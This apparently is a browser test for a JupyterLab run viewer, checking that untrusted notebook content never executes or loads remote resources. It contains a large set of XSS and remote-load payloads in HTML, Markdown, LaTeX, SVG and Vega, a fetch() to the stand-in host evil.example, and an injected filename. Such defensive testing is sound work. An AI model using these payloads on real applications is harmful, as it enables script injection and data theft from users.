"""What strangers wrote is shown, never run: in sources, outputs, names, parameters and errors."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import nbformat
import pytest
from playwright.sync_api import Browser, expect

from tests.server.running import Lab
from tests.ui.runs import OpenRun, finish, markdown, opening, start

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
RUN = f"window.pwned=1;fetch('{EVIL}/stolen')"

MARKUP = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src='{EVIL}/pixel.png'>",
    f"<img srcset='{EVIL}/set.png 1x'>",
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f"<svg><image href='{EVIL}/image.svg' /><use href='{EVIL}/use.svg#a' /></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<iframe src='{EVIL}/frame'></iframe>",
    f"<object data='{EVIL}/object'></object><embed src='{EVIL}/embed'>",
    f"<video autoplay poster='{EVIL}/poster.png' src='{EVIL}/video.mp4'></video>",
    f"<audio autoplay src='{EVIL}/audio.mp3'></audio>",
    f"<video><source src='{EVIL}/source.mp4' onerror=\"{RUN}\"></video>",
    f"<video autoplay muted><track default src='{EVIL}/track.vtt'></video>",
    f"<link rel=stylesheet href='{EVIL}/style.css'>",
    f"<style>@import '{EVIL}/import.css'; body {{ background: url({EVIL}/css.png) }}</style>",
    f"<div style=\"background-image: url('{EVIL}/inline.png')\">painted</div>",
    f'<div style="background: u\\72l({EVIL}/escaped.png); list-style: url({EVIL}/l)">list</div>',
    f"<table background='{EVIL}/table.png'><tr><td>table</td></tr></table>",
    f"<input type=image src='{EVIL}/input.png'>",
    f'<input autofocus onfocus="{RUN}">',
    f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
    f'<body onload="{RUN}"><marquee onstart="{RUN}">m</marquee>',
    f'<a class=trap href="javascript:{RUN}">click</a>',
    f'<a class=trap href=" \tjava\nscript:{RUN}">click</a>',
    f'<a class=trap href="data:text/html,<script>opener.{RUN}</script>">click</a>',
    f'<form action="javascript:{RUN}"><button class=trap>send</button></form>',
    f"<form action='{EVIL}/form'><button class=trap formaction='{EVIL}/other'>send</button></form>",
    (
        "<button class=trap data-commandlinker-command='element:run-in-background'"
        ' data-commandlinker-args=\'{"path": "daily.ipynb"}\'>command</button>'
    ),
    f"<meta http-equiv=refresh content='0;url={EVIL}/refresh'>",
    f"<base href='{EVIL}/'>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table>',
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    f'<template><img src=x onerror="{RUN}"></template>',
    f'<xmp><img src=x onerror="{RUN}"></xmp><plaintext>',
]

MARKDOWN = [
    f"[click](javascript:{RUN})",
    f"![remote]({EVIL}/markdown.png)",
    f"<{EVIL}/auto> [label][ref]\n\n[ref]: javascript:{RUN}",
    f'```mermaid\ngraph TD; A["<img src=x onerror=\'{RUN}\'>"] --> B; click A href "{EVIL}"\n```',
    f'```html\n<script>{RUN}</script>\n```\n\n# <img src=x onerror="{RUN}">',
    f"![](attachment:a.svg) ![x](data:text/html,<script>{RUN}</script>)",
]

LATEX = [
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\style{{background:url({EVIL}/latex.png)}}{{x}}$",
    f'$\\class{{x" onmouseover="{RUN}}}{{y}} \\unicode{{<img src=x onerror={RUN}>}}$',
    f"$\\require{{html}} \\includegraphics{{{EVIL}/graphics.png}} \\text{{<script>{RUN}</script>}}$",
]

DRAWING = (
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script>"
    f"<image href='{EVIL}/drawing.png'/><style>@import '{EVIL}/drawing.css';</style></svg>"
)

CHART = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"url": f"{EVIL}/chart.json"},
    "mark": "point",
    "usermeta": {"embedOptions": {"config": f"{EVIL}/config.json"}},
}


def displayed(kind: str, content: object, **metadata: object) -> str:
    bundle = {kind: content, "text/plain": "plain"}
    return f"display({bundle!r}, raw=True, metadata={metadata!r})"


def hostile_cells() -> list[Any]:
    cells: list[Any] = [markdown(text) for text in MARKUP + MARKDOWN + LATEX]
    cells[-1].attachments = {"a.svg": {"image/svg+xml": DRAWING}}
    cells += [
        "\n".join(displayed("text/html", text) for text in MARKUP),
        "\n".join(displayed("text/html", text, isolated=True) for text in MARKUP),
        "\n".join(displayed("text/markdown", text) for text in MARKUP + MARKDOWN + LATEX),
        "\n".join(displayed("text/latex", text) for text in LATEX + MARKUP),
        displayed("image/svg+xml", DRAWING) + "\n" + displayed("image/svg+xml", MARKUP[4]),
        displayed("application/javascript", RUN) + "\n" + displayed("text/javascript", RUN),
        displayed("application/vnd.vegalite.v5+json", CHART),
        displayed("application/geo+json", {"a": MARKUP[0]}),
        displayed("application/json", {"a": MARKUP}),
        displayed("image/png", f'x" onerror="{RUN}'),
        f"print({MARKUP!r})\nimport sys\nprint(*{MARKUP!r}, sep='\\n', file=sys.stderr)",
        f"{MARKUP[1]!r}  # {MARKUP[0]}",
        f"raise type('X', (Exception,), {{'__qualname__': {MARKUP[1]!r}}})({MARKUP[0]!r})",
    ]
    return cells


@pytest.fixture
def open_run(browser: Browser) -> Iterator[OpenRun]:
    with opening(browser, []) as opened:
        yield opened


def test_nothing_that_a_stranger_wrote_runs_or_loads(lab_with_platform: Lab, open_run: OpenRun):
    lab = lab_with_platform
    name = "'\"><img src=x onerror=window.pwned=1>.ipynb".replace("/", "")
    parameters = nbformat.v4.new_code_cell(
        f"note = {MARKUP[0]!r}", metadata={"tags": ["parameters"]}
    )
    cells = [parameters, *hostile_cells()]
    for cell in cells:
        if not isinstance(cell, str):
            cell.metadata["trusted"] = True
    asked: list[str] = []
    run_id = start(lab, name, *cells, parameters={"note": MARKUP[1]})
    run = finish(lab, run_id)
    assert run["state"] == "failed", run["reason"]
    page = open_run(lab, run_id, watched=asked.append)

    # all of it is on the screen once
    views = page.locator(".jp-ElementCell")
    expect(views).to_have_count(len(cells) + 1)
    for at in range(0, len(cells) + 1, 4):
        views.nth(at).scroll_into_view_if_needed()
    expect(views.last).to_be_visible()
    expect(views.last.locator(".jp-OutputArea")).to_contain_text("<script>")
    for summary in page.locator(".jp-ElementRun-front summary").all():
        summary.click()
    traps = page.locator(".jp-ElementRun .trap, .jp-ElementRun mjx-container a")
    for trap in traps.all():
        trap.evaluate("each => { each.removeAttribute('target'); each.click() }")

    expect(page.get_by_role("region", name="Why it failed")).to_contain_text(MARKUP[0])
    expect(page.locator(".jp-ElementRun-title h1")).to_have_text(name.removesuffix(".ipynb"))
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("document.querySelectorAll('.jp-ElementRun script').length") == 0
    # the last is a picture of the cell itself, which no browser knows how to ask for
    inside = (lab.url, "data:", "blob:", "attachment:")
    assert [url for url in asked if not url.startswith(inside)] == []

    # nor does a copy of it become trusted by being saved
    page.get_by_role("button", name="Open as notebook to debug").click()
    expect(page.locator(".jp-NotebookPanel:visible .jp-Cell").first).to_be_visible()
    made = list(lab.root.glob("*-debug.ipynb"))
    assert len(made) == 1
    copy = json.loads(made[0].read_text())
    assert not any("trusted" in cell["metadata"] for cell in copy["cells"])
    with_trust = page.evaluate(
        "document.querySelectorAll('.jp-NotebookPanel .jp-mod-trusted').length"
    )
    assert with_trust == 0
    assert page.evaluate("window.pwned") is None
